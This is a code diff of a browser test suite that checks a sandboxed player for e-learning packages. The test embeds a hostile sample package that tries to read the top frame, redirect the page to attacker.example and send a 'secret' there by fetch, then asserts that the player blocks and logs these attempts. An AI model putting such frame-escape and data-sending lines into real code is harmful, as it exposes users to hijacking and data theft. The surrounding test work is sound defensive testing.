@@ -167,6 +167,7 @@ const said = [];
 const attempt = (name, act) => { try { act(); } catch (problem) { said.push(`${name}: ${problem.name}`); } };
 attempt("read", () => top.document.title);
 attempt("leave", () => { top.location = "https://attacker.example/"; });
+fetch("no/such.js");
 fetch("https://attacker.example/?secret").catch(() => { document.title = said.join(" "); });
 </script>"""
 
@@ -190,6 +191,7 @@ def test_a_package_of_another_tool_is_played_and_reaches_neither_the_inspector_n
     expect(calls.get_by_role("row", name="LMSSetValue(cmi.core.score.raw) 80 true")).to_be_visible()
     expect(calls.get_by_role("row", name="lesson_status")).to_contain_text("Refused. 405: Incorrect data type")
     expect(calls.get_by_role("row", name="Blocked")).to_contain_text("https://attacker.example/")
+    expect(calls.get_by_role("row", name="Missing")).to_contain_text("no/such.js")
     package = next(frame for frame in tab.frames if "/package/" in frame.url)
     package.wait_for_function("document.title === 'read: SecurityError leave: SecurityError'")
     assert tab.url == address
